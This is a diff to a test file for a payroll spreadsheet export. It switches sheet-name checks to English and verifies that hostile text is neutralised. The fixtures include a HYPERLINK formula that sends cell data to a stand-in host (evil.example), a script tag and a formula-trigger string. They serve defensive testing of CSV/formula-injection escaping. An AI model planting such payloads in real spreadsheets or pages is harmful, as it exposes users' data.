@@ -52,7 +52,7 @@ def test_a_small_run_is_written_at_once(computed, finance):
     assert job.status == ExportStatus.DONE and job.done == job.total == computed.payslips.count() == 4
     assert job.file.name.startswith("payroll/exports/") and job.finished_at is not None
     with job.file.open("rb") as handle:
-        assert "工资表 Payslips" in _workbook(handle.read()).sheetnames
+        assert "Payslips" in _workbook(handle.read()).sheetnames
 
 
 def test_a_large_run_is_queued_then_written_with_progress(
@@ -221,7 +221,7 @@ def test_the_page_shows_progress_then_the_link(client_as, computed, finance, man
     assert reverse("payroll:export-download", args=[job.pk]) in fragment
     download = client.get(reverse("payroll:export-download", args=[job.pk]))
     assert download.status_code == 200 and download["Content-Type"] == XLSX
-    assert "银行转账 Bank transfer" in _workbook(b"".join(download.streaming_content)).sheetnames
+    assert "Bank transfer" in _workbook(b"".join(download.streaming_content)).sheetnames
     # Managers see the run, but neither the exports nor the file (full bank accounts).
     assert 'data-testid="exports"' not in client_as(manager).get(computed.get_absolute_url()).content.decode()
     assert client_as(manager).get(reverse("payroll:export-download", args=[job.pk])).url == reverse("home")
@@ -244,7 +244,7 @@ def test_api_start_status_and_download(api_as, computed, large):
     download = client.get(status["download_url"])
     assert download.status_code == 200 and download["Content-Type"] == XLSX
     workbook = _workbook(b"".join(download.streaming_content))
-    bank = workbook["银行转账 Bank transfer"]
+    bank = workbook["Bank transfer"]
     paid = sum(Decimal(str(bank.cell(row, 5).value)) for row in range(2, bank.max_row))
     assert paid == sum(slip.net_pay for slip in Payslip.objects.filter(run=computed))
     assert [row["id"] for row in client.get("/api/payroll/exports/?month=2026-03&status=done").json()["results"]] == [
@@ -271,10 +271,11 @@ HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 def _hostile_world(sales_employee, payroll_world):
     """Employees, a department, a role and a component whose texts try formulas, markup and control characters."""
     department = payroll_world["department"]
-    department.name_zh = "<script>alert(1)</script> & Co"
+    # In both languages: the workbook shows the one of the language it is written in.
+    department.name_zh = department.name_en = "<script>alert(1)</script> & Co"
     department.save()
     role = payroll_world["role"]
-    role.title_zh = "+SUM(1)\x07"
+    role.title_zh = role.title_en = "+SUM(1)\x07"
     role.save()
     services.save_structure_version(
         structure=payroll_world["structure"],
@@ -307,7 +308,7 @@ def test_hostile_text_is_escaped_neutralised_and_never_a_formula(sales_employee,
 
     for read_only in (False, True):
         workbook = openpyxl.load_workbook(path, read_only=read_only)
-        sheet = workbook["工资表 Payslips"]
+        sheet = workbook["Payslips"]
         rows = list(sheet.iter_rows(values_only=True))
         header = rows[0]
         assert 'Base <b>pay</b> & "more"' in header and "'@bonus" in header
@@ -325,7 +326,7 @@ def test_hostile_text_is_escaped_neutralised_and_never_a_formula(sales_employee,
             for cell in row:
                 if cell.data_type == "f":
                     assert cell.value.startswith("=SUM(") and cell.row == sheet.max_row
-    strips = workbook["工资条 Payslip strips"]
+    strips = workbook["Payslip strips"]
     assert strips.cell(2, 2).data_type == "s" and strips.cell(1, 6).value == 'Base <b>pay</b> & "more"'
 
 
@@ -338,7 +339,7 @@ def test_amounts_are_the_exact_decimals(sales_employee, payroll_world, tmp_path)
         bank_xml = package.read("xl/worksheets/sheet3.xml").decode()
     for slip in Payslip.objects.filter(run=run):
         assert f"<v>{slip.net_pay}</v>" in bank_xml  # the Decimal's own text, e.g. 7803.55, never a float
-    sheet = openpyxl.load_workbook(path)["工资表 Payslips"]
+    sheet = openpyxl.load_workbook(path)["Payslips"]
     assert sheet.cell(2, 6).number_format == "#,##0.00;-#,##0.00" and sheet.cell(2, 5).number_format == "0.0"
     assert sheet.cell(1, 1).font.b and sheet.cell(sheet.max_row, 6).font.b
     assert sheet.column_dimensions["A"].width == 10
@@ -368,10 +369,10 @@ def test_a_run_without_payslips_still_makes_a_valid_workbook(computed, tmp_path)
     Payslip.objects.filter(run=computed).delete()
     path = export_run(run=computed, path=str(tmp_path / "empty.xlsx"))
     for read_only in (False, True):
-        sheet = openpyxl.load_workbook(path, read_only=read_only)["工资表 Payslips"]
+        sheet = openpyxl.load_workbook(path, read_only=read_only)["Payslips"]
         rows = list(sheet.iter_rows(values_only=True))
-        assert len(rows) == 2 and rows[1][0] == "合计 Total"  # the header and the totals
-    sheet = openpyxl.load_workbook(path)["工资表 Payslips"]
+        assert len(rows) == 2 and rows[1][0] == "Total"  # the header and the totals
+    sheet = openpyxl.load_workbook(path)["Payslips"]
     assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.endswith("1")
 
 
